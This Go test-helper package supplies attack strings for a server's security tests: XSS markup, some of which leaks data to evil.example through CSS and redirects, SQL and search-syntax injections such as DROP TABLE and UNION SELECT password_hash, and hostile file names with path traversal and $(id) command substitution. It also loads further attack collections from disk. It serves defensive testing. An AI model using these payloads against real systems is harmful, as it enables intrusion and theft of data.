// Package attacktest gives tests what strangers send: a handful of attack strings of its own, and the
// public collections that lie beside the project where they are present. The server never imports it.
package attacktest

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Markup are scraps of HTML that want to run, load, cover or leave (docs/security.md, S1–S5).
var Markup = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<ifr<iframe>ame srcdoc="<script>parent.alert(1)</script>">`, `<iframe src="javascript:alert(1)"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/logout">x</a>`, `<a href="?x=1">x</a>`,
	`<track src="/file.php?a=1>onerror=alert(1) x=">`, `<img src='cid:x" onerror=alert(1) y="'>`, `<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>`,
	`<style>input[value^="a"]{background:url(//evil.example/a)}</style>`, `<style>@import "//evil.example/a.css";</style>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
	`<div style="background:url(http://evil.example/)">x</div>`, `<div style="background-image:u\72l(http://evil.example/)">x</div>`, `<link rel=stylesheet href=//evil.example/a.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href="//evil.example/">`, `<video poster="//evil.example/p.png"><source src="//evil.example/v.mp4"></video>`, `<img srcset="//evil.example/a.png 2x">`, `<table background="//evil.example/a.png"><tr><td>x</table>`,
	`<input type=image src="//evil.example/a.png">`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src="javascript:alert(1)">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<div id=location name=location class=toast>x</div>`, `<img name=cookie src=x>`, `<details open ontoggle=alert(1)>x</details>`, `<xss autofocus tabindex=1 onfocus=alert(1)>`,
	"<img src=x\x00 onerror=alert(1)>", `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<template><img src=x onerror=alert(1)></template>`, `</div></body></iframe><img src=x onerror=alert(1)>`,
}

// Words are what no search, filter or statement may take for its own syntax (docs/security.md, S20).
var Words = []string{
	`'`, `''`, `"`, `" OR 1`, `' OR '1'='1`, `1; DROP TABLE customers; --`, `') UNION SELECT password_hash FROM users --`, `*`, `a*`, `^desk`, `NEAR(`, `NEAR(desk lamp, 2)`, `desk AND`, `NOT desk`, `desk OR`, `(desk`, `desk)`,
	`subject:desk`, `{subject text}:desk`, `- desk`, `%`, `_`, `%%`, `\`, `\%`, `:query`, `?`, `@query`, `$1`, "desk\x00lamp", "\xff\xfe", "\u202edesk", `"desk`, `""""`, `+`, `désk`, strings.Repeat("a ", 200), strings.Repeat(`"`, 99), `null`, `-1`, `9223372036854775808`, `1e9`,
}

// Names are file names that would like to be paths, programs or somebody else's (docs/security.md, S7).
var Names = []string{
	"\u200b.htaccess", "../../etc/passwd", `..\..\x.dll`, "a\x00.png", "con", "aux.txt", "\u202egnp.exe", "", ".", "..", "/", "//x", "C:\\x", "a\r\nSet-Cookie: x=1", `a";filename="b.exe`, "%2e%2e%2fx", "a/b", "~/.ssh/id", "$(id)", "`id`", "|id", "nul:", "x:ads", "a\u2028b", strings.Repeat("é", 300), strings.Repeat("../", 99) + "x",
}

// Each runs a test over the strings above, which are always there, and over collections of the folder
// of attacks, which is skipped in words where it is absent. What one string does must not depend on
// another.
func Each(t *testing.T, own []string, files []string, run func(t *testing.T, payloads []string)) {
	t.Helper()
	t.Run("own", func(t *testing.T) { run(t, own) })
	t.Run("collected", func(t *testing.T) { run(t, Collected(t, files...)) })
}

// Collected reads collections: JSON lists of strings, or lines of JSON objects with a field "html".
func Collected(t testing.TB, files ...string) []string {
	t.Helper()
	var out []string
	for _, name := range files {
		path := filepath.Join(folder(), filepath.FromSlash(name))
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Skipf("the collection of attacks is not at %s; set ONETHREAD_SHARED to its folder", path)
		}
		out = append(out, read(t, name, raw)...)
	}
	if len(out) == 0 {
		t.Fatalf("%v hold nothing", files)
	}
	return out
}

func read(t testing.TB, name string, raw []byte) (out []string) {
	t.Helper()
	if strings.HasSuffix(name, ".json") {
		if err := json.Unmarshal(raw, &out); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return out
	}
	lines := bufio.NewScanner(bytes.NewReader(raw))
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var row struct{ HTML string }
		if err := json.Unmarshal(lines.Bytes(), &row); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		out = append(out, row.HTML)
	}
	if err := lines.Err(); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

func folder() string {
	shared := os.Getenv("ONETHREAD_SHARED")
	for dir, _ := os.Getwd(); shared == "" && dir != filepath.Dir(dir); dir = filepath.Dir(dir) {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			shared = filepath.Join(filepath.Dir(dir), "shared")
		}
	}
	return filepath.Join(shared, "fixtures", "attacks")
}
